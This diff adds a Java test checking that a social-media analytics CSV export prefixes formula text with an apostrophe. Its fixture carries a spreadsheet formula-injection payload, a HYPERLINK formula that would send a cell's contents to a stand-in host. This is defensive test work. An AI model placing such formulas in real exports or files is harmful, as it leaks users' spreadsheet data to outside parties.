@@ -137,4 +137,25 @@ class AnalyticsTest {
         assertProblem(given().auth().oauth2(member).get("/api/analytics?from=2032-02-01&to=2032-02-29").then(), 403, "forbidden");
         given().auth().oauth2(staff).get("/api/analytics?from=2040-01-01&to=2040-01-31").then().statusCode(200);
     }
+
+    /** Issue 13, finding 5: a post's text that a spreadsheet would run comes out of the analytics CSV as text. */
+    @Test
+    void theCsvExportNeutralisesFormulasInAPostsText() throws Exception {
+        String staff = Accounts.tokenFor(db, "STAFF");
+        long campaign = CampaignFixtures.createCampaign(staff, CampaignFixtures.campaign("Formula"));
+        Map<String, Object> body = post(variant("FACEBOOK", "=HYPERLINK(\"http://x.example/?d=\"&A1,\"klik\");=1+1", null));
+        body.put("campaignId", campaign);
+        long id = CampaignFixtures.createPost(staff, body);
+        markPublished(db, id, "FACEBOOK", "https://example.test/" + UUID.randomUUID(), "2033-03-03T03:00:00Z");
+        metrics(variantId(db, id, "FACEBOOK"), "2033-03-04T00:00:00Z", 100L, 80L, 5, 0, 0, 0, 0);
+
+        String csv = given().auth().oauth2(staff).accept("text/csv")
+                .get("/api/analytics?from=2033-03-01&to=2033-03-31&campaignId=" + campaign)
+                .then().statusCode(200).contentType(startsWith("text/csv")).extract().asString();
+        var records = org.apache.commons.csv.CSVFormat.EXCEL.parse(new java.io.StringReader(csv.substring(1))).getRecords();
+        assertEquals(AnalyticsResource.CSV_HEADER, String.join(",", records.get(0).toList()));
+        assertEquals(2, records.size(), csv);
+        assertEquals("'=HYPERLINK(\"http://x.example/?d=\"&A1,\"klik\");'=1+1", records.get(1).get(17), csv);
+        assertEquals("100", records.get(1).get(7));
+    }
 }
